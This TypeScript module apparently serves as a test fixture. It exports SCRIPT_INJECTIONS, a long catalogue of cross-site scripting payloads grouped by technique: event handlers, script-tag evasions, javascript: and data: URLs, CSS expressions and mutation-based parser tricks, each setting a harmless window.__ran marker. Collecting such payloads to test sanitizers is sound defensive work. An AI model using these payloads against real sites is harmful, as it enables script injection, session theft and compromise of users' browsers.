/** Sets a mark that a page can be asked for. */
const RUN = 'window.__ran=1';

/** Elements that load, run or submit something by an attribute of theirs. */
const BY_EVENT = [
  ...[`<img src=x onerror="${RUN}">`, `<img src=x onerror=${RUN}>`, `<img/src=x/onerror=${RUN}>`],
  ...[`<IMG SRC=x OnErRoR="${RUN}">`, `<img src="x" onerror ="${RUN}">`, `<img src=x:x onerror\n=\n"${RUN}">`],
  ...[`<img src=x onerror=\`${RUN}\`>`, `<img src=x o\u0000nerror="${RUN}">`, `<img """><script>${RUN}</script>">`],
  ...[
    `<img srcset="x" onerror="${RUN}">`,
    `<img src=x onerror="&#119;indow.__ran=1">`,
    `<image src=x onerror="${RUN}">`,
  ],
  ...[`<svg onload="${RUN}">`, `<svg/onload=${RUN}>`, `<svg><g onload="${RUN}"></g></svg>`],
  ...[`<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`, `<svg><set onbegin="${RUN}" attributeName=x>`],
  ...[`<svg><image href=x onerror="${RUN}"></svg>`, `<svg onload\r\n=\t"${RUN}">`, `<svg xmlns="#" onload="${RUN}">`],
  ...[
    `<body onload="${RUN}">`,
    `<body onpageshow="${RUN}">`,
    `<body onresize="${RUN}">`,
    `<body onhashchange="${RUN}">`,
  ],
  ...[`<video src=x onerror="${RUN}">`, `<video><source onerror="${RUN}"></video>`, `<audio src=x onerror="${RUN}">`],
  ...[
    `<video poster=x onloadstart="${RUN}" src=x>`,
    `<track src=x onerror="${RUN}">`,
    `<input autofocus onfocus="${RUN}">`,
  ],
  ...[
    `<select autofocus onfocus="${RUN}">`,
    `<textarea autofocus onfocus="${RUN}">`,
    `<keygen autofocus onfocus="${RUN}">`,
  ],
  ...[`<button autofocus onfocus="${RUN}">x</button>`, `<p tabindex=0 autofocus onfocus="${RUN}">x</p>`],
  ...[`<details open ontoggle="${RUN}">x</details>`, `<marquee onstart="${RUN}">x</marquee>`],
  ...[`<marquee loop=1 width=0 onfinish="${RUN}">x</marquee>`, `<p onmouseover="${RUN}">x</p>`],
  ...[
    `<b onclick="${RUN}">x</b>`,
    `<a href="https://x.example" onclick="${RUN}">x</a>`,
    `<p onpointerrawupdate="${RUN}">x</p>`,
  ],
  ...[
    `<p style="animation:x 1s" onanimationstart="${RUN}">x</p>`,
    `<p ontransitionend="${RUN}" style="transition:all 1s">x</p>`,
  ],
  ...[`<object onerror="${RUN}" data=x>`, `<embed src=x onerror="${RUN}">`, `<iframe onload="${RUN}">`],
  ...[
    `<style onload="${RUN}">x{}</style>`,
    `<link rel=stylesheet href=x onerror="${RUN}">`,
    `<form oninput="${RUN}"><input></form>`,
  ],
  ...[
    `<dialog open onclose="${RUN}">x</dialog>`,
    `<xss onscrollend="${RUN}" style="display:block;overflow:auto">x</xss>`,
  ],
];

/** Scripts, however they are written. */
const BY_SCRIPT = [
  ...[`<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script >${RUN}</script >`, `<script/x>${RUN}</script>`],
  ...[
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<<script>${RUN}//<</script>`,
    `<script src="data:,${RUN}"></script>`,
  ],
  ...[`<script src=//x.example/x.js></script>`, `<script type=module>${RUN}</script>`, `<script\t>${RUN}</script\t>`],
  ...[`"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`],
  ...[`</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`],
  ...[`]]><script>${RUN}</script>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:,${RUN}" /></svg>`],
  ...[`<svg><script>&#119;indow.__ran=1</script></svg>`, `<math><mtext><script>${RUN}</script></mtext></math>`],
  ...[
    `<noscript><p title="</noscript><script>${RUN}</script>"></noscript>`,
    `<template><script>${RUN}</script></template>`,
  ],
  ...[
    `<xmp><p title="</xmp><script>${RUN}</script>"></xmp>`,
    `<noembed><p title="</noembed><script>${RUN}</script>"></noembed>`,
  ],
  ...[`<iframe><p title="</iframe><script>${RUN}</script>"></iframe>`, `<plaintext><script>${RUN}</script>`],
  ...[
    `<!--><script>${RUN}</script>-->`,
    `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
    `<![CDATA[<script>${RUN}</script>]]>`,
  ],
  ...[`<?xml version="1.0"?><script>${RUN}</script>`, `&lt;script&gt;${RUN}&lt;/script&gt;<script>${RUN}</script>`],
];

/** Addresses that run something when they are opened or fetched. */
const BY_ADDRESS = [
  ...[`<a href="javascript:${RUN}">x</a>`, `<a href="JaVaScRiPt:${RUN}">x</a>`, `<a href=" javascript:${RUN}">x</a>`],
  ...[
    `<a href="java\tscript:${RUN}">x</a>`,
    `<a href="java\nscript:${RUN}">x</a>`,
    `<a href="java&#10;script:${RUN}">x</a>`,
  ],
  ...[
    `<a href="&#106;avascript:${RUN}">x</a>`,
    `<a href="&#x6A;avascript:${RUN}">x</a>`,
    `<a href="&#0000106avascript:${RUN}">x</a>`,
  ],
  ...[
    `<a href="javascript&colon;${RUN}">x</a>`,
    `<a href="\u0001javascript:${RUN}">x</a>`,
    `<a href="javascript://%0a${RUN}">x</a>`,
  ],
  ...[
    `<a href="vbscript:${RUN}">x</a>`,
    `<a href="livescript:${RUN}">x</a>`,
    `<a href="view-source:javascript:${RUN}">x</a>`,
  ],
  ...[
    `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD54PC9zY3JpcHQ+">x</a>`,
  ],
  ...[
    `<a href="feed:javascript:${RUN}">x</a>`,
    `<a href="blob:https://x.example/1">x</a>`,
    `<a href="filesystem:https://x.example/1">x</a>`,
  ],
  ...[`<a xlink:href="javascript:${RUN}">x</a>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`],
  ...[
    `<math href="javascript:${RUN}">x</math>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  ],
  ...[
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<frame src="javascript:${RUN}">`,
  ],
  ...[
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<applet code="javascript:${RUN}"></applet>`,
  ],
  ...[
    `<form action="javascript:${RUN}"><button>x</button></form>`,
    `<button formaction="javascript:${RUN}">x</button>`,
  ],
  ...[
    `<isindex action="javascript:${RUN}" type=submit>`,
    `<base href="javascript:${RUN}//">`,
    `<base href="//x.example/">`,
  ],
  ...[
    `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
    `<link rel=stylesheet href="//x.example/x.css">`,
  ],
  ...[
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<meta http-equiv=refresh content="0;url=//x.example">`,
  ],
  ...[`<img src="javascript:${RUN}">`, `<img dynsrc="javascript:${RUN}">`, `<img lowsrc="javascript:${RUN}">`],
  ...[
    `<img src="/api/common/post-pictures/../../../x">`,
    `<img src="//x.example/pixel.gif">`,
    `<img src="data:image/svg+xml,<svg onload=x>">`,
  ],
  ...[`<table background="javascript:${RUN}"><tr><td>x</td></tr></table>`, `<td background="javascript:${RUN}">x</td>`],
  ...[
    `<svg><use href="data:image/svg+xml,<svg id=x><script>x</script></svg>#x"></svg>`,
    `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  ],
];

/** Styles, and texts that only another reading turns into elements. */
const BY_READING = [
  ...[`<style>@import "javascript:${RUN}";</style>`, `<style>body{background:url("javascript:${RUN}")}</style>`],
  ...[
    `<p style="background:url(javascript:${RUN})">x</p>`,
    `<p style="width:expression(${RUN})">x</p>`,
    `<p style="-moz-binding:url(//x.example)">x</p>`,
  ],
  ...[`<p style="position:fixed;inset:0">x</p>`, `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`],
  ...[`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ...[`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`],
  ...[`<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<p title="<img src=x onerror=${RUN}>">x</p>`],
  ...[
    `<svg><desc><noscript></desc><img src=x onerror="${RUN}"></noscript></svg>`,
    `<a href="x" title='"><img src=x onerror=${RUN}>'>x</a>`,
  ],
  ...[
    `<p id=x name=getElementById>x</p><form id=document><input name=cookie></form>`,
    `{{constructor.constructor('${RUN}')()}}`,
  ],
  ...[
    `\u003cimg src=x onerror=${RUN}\u003e`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `<p>[[team:<img src=x onerror=${RUN}>]]</p>`,
  ],
];

/** Well-known ways in which a text that is shown as a page would run as one. */
export const SCRIPT_INJECTIONS: readonly string[] = [...BY_EVENT, ...BY_SCRIPT, ...BY_ADDRESS, ...BY_READING];
